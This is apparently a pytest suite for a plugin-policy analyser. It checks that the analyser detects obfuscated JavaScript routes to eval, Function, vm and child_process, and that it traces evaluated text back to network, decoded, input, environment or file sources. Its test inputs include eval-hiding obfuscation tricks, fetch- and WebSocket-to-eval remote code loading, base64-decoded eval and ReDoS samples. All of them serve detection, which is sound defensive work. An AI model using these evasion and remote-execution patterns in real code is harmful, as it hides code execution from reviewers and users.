"""What the evaluator makes of JavaScript: by which name something is called, and with what."""

from __future__ import annotations

import pytest

from plugin_policy.capabilities.tables import Tables
from plugin_policy.readers.names import evaluate
from plugin_policy.readers.program import Program
from plugin_policy.text import Text


def program(*sources: str, language: str = "javascript") -> Program:
    names = ["main.js", "lib.js", "more.js"]
    return evaluate(
        [Text(name, source.encode(), language) for name, source in zip(names, sources, strict=False)], Tables()
    )


def calls(*sources: str, language: str = "javascript") -> list[str]:
    """callee(first argument) of every call that a row speaks of; an argument that is not known is ?"""
    found = []
    for call in program(*sources, language=language).calls:
        at = -1 if call.callee == "global.Function" else 0
        found.append(f"{call.callee}({call.args[at].text() or '?' if call.args else ''})")
    return found


EVAL = "global.eval(x)"
FUNCTION = "global.Function(x)"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        # names
        ("globalThis['ev' + 'al']('x')", EVAL),
        ("const {eval: e} = window; e('x')", EVAL),
        ("(0, eval)('x')", EVAL),
        ("let f = print; f = eval; f('x')", EVAL),
        ("eval.call(null, 'x')", EVAL),
        ("Function.prototype.call.call(eval, null, 'x')", EVAL),
        ("Array.prototype.forEach.call(['x'], eval)", EVAL),
        ("Reflect.apply(eval, null, ['x'])", EVAL),
        ("globalThis['e-v-a-l'.replace(/-/g, '')]('x')", EVAL),
        ("globalThis['lave'.split('').reverse().join('')]('x')", EVAL),
        ("globalThis['6576616c'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join('')]('x')", EVAL),
        ("globalThis['fwbm'.replace(/./g, c => String.fromCharCode(c.charCodeAt(0) - 1))]('x')", EVAL),
        ("globalThis[Object.keys({eval: 1})[0]]('x')", EVAL),
        ("globalThis[JSON.parse('[\"eval\"]')[0]]('x')", EVAL),
        ("globalThis[`${'ev'}${'al'}`]('x')", EVAL),
        ("(function () { return this })().eval('x')", EVAL),
        ("enum_ = {A: 'eval'}; self[enum_.A]('x')", EVAL),
        # constructors
        ("(() => {}).constructor('x')", FUNCTION),
        ("[]['filter']['constructor']('x')", FUNCTION),
        ("''.constructor.constructor('x')", FUNCTION),
        ("(async () => {}).__proto__.constructor('x')", FUNCTION),
        ("Object.getPrototypeOf(function* () {}).constructor('x')", FUNCTION),
        ("class F extends Function { constructor(c) { super(c) } } new F('x')", FUNCTION),
        ("Reflect.construct(Function, ['x'])", FUNCTION),
        # only signs: false, undefined, [object Object] and function … as text
        ("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]['constructor']('x')", FUNCTION),
        ("[][(![]+[])[0]+(![]+[])[2]+'at']['constr'+(([]+{})[1])]", None),
        # objects and classes
        ("class A { static e = eval } A.e('x')", EVAL),
        ("class A { get e() { return eval } run() { this.e('x') } } new A().run()", EVAL),
        ("class A { constructor(f) { this.f = f } go() { this.f('x') } } new A(eval).go()", EVAL),
        ("class B { run(c) { eval(c) } } class A extends B { go() { super.run('x') } } new A().go()", EVAL),
        ("const o = { f: eval, go() { this.f('x') } }; o.go()", EVAL),
        ("const o = { get f() { return eval } }; o.f('x')", EVAL),
        ("const o = {}; Object.defineProperty(o, 'f', { value: eval }); o.f('x')", EVAL),
        ("new Proxy({}, { get: () => eval }).anything('x')", EVAL),
        ("function A() { this.f = eval } new A().f('x')", EVAL),
        # promises and callbacks
        ("Promise.resolve('x').then(eval)", EVAL),
        ("Promise.resolve('x').then(v => v).finally(() => {}).then(v => eval(v))", EVAL),
        ("new Promise(done => done('x')).then(eval)", EVAL),
        ("(async () => { const v = await (async () => 'x')(); eval(v) })()", EVAL),
        ("['x'].forEach(v => eval(v))", EVAL),
        ("const run = (f, v) => f(v); run(eval, 'x')", EVAL),
        ("import('node:vm').then(m => m.runInThisContext('x'))", "vm.runInThisContext(x)"),
        ("const { runInThisContext } = await import('vm'); runInThisContext('x')", "vm.runInThisContext(x)"),
        ("process.mainModule.require('vm').runInThisContext('x')", "vm.runInThisContext(x)"),
        ("const r = require; r('child_process').execSync('x')", "child_process.execSync(x)"),
        ("import { exec as e } from 'node:child_process'; e('x')", "child_process.exec(x)"),
        ("import cp from 'child_process'; import { promisify } from 'util'; promisify(cp.exec)('x')",
         "child_process.exec(x)"),
        ("const fs = require('fs').promises; fs.readFile('x')", "fs.readFile(x)"),
        ("import { readFile } from 'node:fs/promises'; readFile('x')", "fs.readFile(x)"),
        ("require('fs-extra').readFileSync('x')", "fs.readFileSync(x)"),
        # not the language's
        ("function f(eval) { eval('x') } f(JSON.parse)", None),
        ("const o = { eval(c) { return c }, go() { this.eval('x') } }; o.go()", None),
        ("class A { eval(c) {} go() { this.eval('x') } } new A().go()", None),
        ("class A { clone() { return new this.constructor('x') } } new A().clone()", None),
        ("new (err.constructor)('x')", None),
        ("expect.any(Function)", None),
        ("/eval/.exec('x')", None),
        ("model.eval('x')", None),
    ],
)  # fmt: skip
def test_call(source: str, expected: str | None) -> None:
    found = [call for call in calls(source) if "require" not in call and "import" not in call]
    assert found == ([] if expected is None else [expected])


@pytest.mark.parametrize(
    ("source", "origin"),
    [
        ("fetch('https://a.example').then(r => r.text()).then(eval)", "network"),
        ("const r = await fetch('https://a.example'); eval(await r.text())", "network"),
        ("const {data} = await require('axios').get('https://a.example'); eval(data)", "network"),
        ("require('https').get('https://a.example', r => { let b = ''; r.on('data', c => { b += c }); "
         "r.on('end', () => eval(b)) })", "network"),
        ("new WebSocket('wss://a.example').onmessage = e => eval(e.data)", "network"),
        ("eval(atob('eA=='))", "decoded"),
        ("eval(Buffer.from('eA==', 'base64').toString())", "decoded"),
        ("const k = 3; let s = ''; for (const c of [1, 2, 3]) s += String.fromCharCode(c ^ k ^ z); eval(s)", "decoded"),
        ("eval(process.argv[2])", "input"),
        ("process.stdin.on('data', d => eval(d.toString()))", "input"),
        ("eval(process.env.X)", "environment"),
        ("eval(require('fs').readFileSync('./x', 'utf8'))", "file"),
    ],
)  # fmt: skip
def test_origin_of_what_is_evaluated(source: str, origin: str) -> None:
    call = next(call for call in program(source).calls if call.callee == "global.eval")
    assert origin in call.args[0].origins


def test_files_of_one_plugin_share_their_exports() -> None:
    library = "const run = eval; module.exports = { run, make() { return eval } }; exports.other = eval"
    assert calls("const { run } = require('./lib'); run('x')", library) == [EVAL]
    assert calls("require('./lib.js').make()('x')", library) == [EVAL]
    assert calls("import { run as go } from './lib.js'; go('x')", "export const run = eval") == [EVAL]
    assert calls("import go from './lib.js'; go('x')", "export default eval") == [EVAL]
    assert calls(
        "import * as l from './lib.js'; l.f('x')", "export { f } from './more.js'", "export const f = eval"
    ) == [EVAL]


@pytest.mark.parametrize(
    "source",
    [
        "import('data:text/javascript,eval(1)')",
        "import('data:text/javascript;base64,ZXZhbCgxKQ==')",
        "import(URL.createObjectURL(new Blob(['eval(1)'])))",
        "new Worker('eval(1)', { eval: true })",
        "location.href = 'javascript:eval(1)'",
        "setTimeout('eval(1)', 5)",
        "new Function('a', 'eval(1)')",
        "document.createElement('script').textContent = 'eval(1)'",
        "require('child_process').execSync('node -e \"eval(1)\"')",
        "require('child_process').spawn(process.execPath, ['-e', 'eval(1)'])",
    ],
)
def test_text_that_runs_is_read(source: str) -> None:
    assert "global.eval" in [call.callee for call in program(source).calls]


@pytest.mark.parametrize(
    "source",
    ["location.href = 'javascript:void(0)'", "location.href = url", "new Worker('./x.js')", "document.write('<b>')"],
)
def test_text_that_does_not_run(source: str) -> None:
    found = program(source)
    assert [item for item in found.evaluated if item.via != "global.Worker"] == []
    assert all(call.callee == "global.Worker" for call in found.calls)


@pytest.mark.parametrize(
    "source",
    [
        "'" + "a" * 4000 + "!'.replace(/(a+)+b/g, '')",
        "'" + "a" * 40 + "'.replace(/a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?a?aaaaaaaaaaaaaaaaaaaaaaaaaab/g, '')",
        "'" + "a" * 4000 + "'.match(/(a|a)*$/)",
        "let a = []; a.push(a); f(a, a); [a] + ''; eval(a + a)",
        "const o = {}; o.o = o; f(o); JSON.stringify(o); eval(o)",
        "function f(x) { return f(x + 'a') } eval(f('a'))",
        "let s = 'a'; while (true) s += s; eval(s)",
        "eval('x'.repeat(1e9))",
        "Array(1e9).join('x')",
        "const f = g => g(g); f(f)",
    ],
)
def test_hostile_code_ends(source: str) -> None:
    assert program(source + "; eval('last')").calls[-1].args[0].text() == "last"
